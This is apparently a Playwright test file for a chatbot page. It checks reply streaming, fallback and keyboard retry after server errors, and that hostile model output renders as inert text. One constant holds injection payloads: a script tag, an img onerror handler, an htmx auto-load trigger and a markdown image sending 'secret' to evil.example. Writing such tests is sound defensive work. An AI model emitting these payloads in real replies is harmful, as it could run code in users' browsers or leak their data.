"""Model replies in Chromium: streamed as written, hostile output inert, faults retried."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from chatbot import SAMPLE_PROFILE
from chatbot.profile import load_profile

pytestmark = pytest.mark.browser

PROFILE = load_profile(SAMPLE_PROFILE)
HOSTILE = ('Before <script>window.__pwned = 1</script> '
           '<img src=x onerror="window.__pwned = 2"> '
           '<div hx-get="/chat?pwned=3" hx-trigger="load">div</div> '
           '![leak](https://evil.example/collect?q=secret) after.')


@pytest.fixture
def model_chat(stack: Any, tmp_path: Path, fake_openai: Any) -> str:
    """The standalone chat page on the OpenAI engine, aimed at the fake server."""
    sites = stack.start(tmp_path, CHATBOT_ENGINE="openai", OPENAI_BASE_URL=fake_openai.base_url,
                        OPENAI_API_KEY="test", CHATBOT_REPLY_TIMEOUT=20.0)
    return f"{sites.chat}/chat"


def ask(page: Page, question: str) -> None:
    page.locator("#message").fill(question)
    page.locator("#message").press("Enter")


def test_the_reply_appears_token_by_token(page: Page, model_chat: str,
                                          fake_openai: Any) -> None:
    fake_openai.reply = " ".join(f"word{n}" for n in range(30))
    fake_openai.tokens_per_second = 15  # two seconds for the reply
    page.goto(model_chat)
    ask(page, "Tell me everything")
    streaming = page.locator("#log > li.pending .stream-text")
    expect(streaming).to_contain_text("word3")
    early = streaming.inner_text()
    expect(streaming).to_contain_text("word12")
    later = streaming.inner_text()
    assert len(later) > len(early) and "word29" not in early
    finished = page.locator("#log > li.msg.assistant[id^=msg-]").last
    expect(finished).to_contain_text("word29")
    expect(page.locator("#log > li.pending")).to_have_count(0)


def test_hostile_replies_render_as_inert_text(page: Page, model_chat: str,
                                              fake_openai: Any) -> None:
    fake_openai.reply = HOSTILE
    requested: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(model_chat)
    ask(page, "Say something")
    reply = page.locator("#log > li.msg.assistant[id^=msg-]").last
    expect(reply).to_contain_text("after.")
    page.wait_for_timeout(300)  # time for anything that would load or run to do so
    text = reply.locator(".text")
    assert text.locator("script, img, div[hx-get], [onerror]").count() == 0
    expect(text).to_contain_text("<script>")
    expect(text).to_contain_text("[image: leak]")
    assert page.evaluate("() => window.__pwned") is None
    assert dialogs == []
    assert not [url for url in requested if "evil.example" in url or "pwned" in url]


def test_a_fault_shows_the_profile_answer_and_retry_works_by_keyboard(
    page: Page, model_chat: str, fake_openai: Any
) -> None:
    fake_openai.fail_next("server_error", times=2)  # the call and its retry
    page.goto(model_chat)
    ask(page, "How can I contact her?")
    fallback = page.locator("#log > li.msg.fallback")
    expect(fallback).to_contain_text(PROFILE.contact.email or "")
    expect(fallback).to_contain_text("model server had an error")

    fake_openai.reply = "Write to her by email."
    retry = fallback.get_by_role("button", name="Retry")
    retry.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#log > li.msg.fallback")).to_have_count(0)
    replies = page.locator("#log > li.msg.assistant[id^=msg-]")
    expect(replies).to_have_count(1)
    expect(replies.first).to_contain_text("Write to her by email.")
    page.reload()  # the stored conversation shows the retried answer, not the fallback
    expect(page.locator("#log > li.msg.assistant[id^=msg-]")).to_have_text(
        [f"{PROFILE.first_name}'s assistant Write to her by email."], use_inner_text=True)
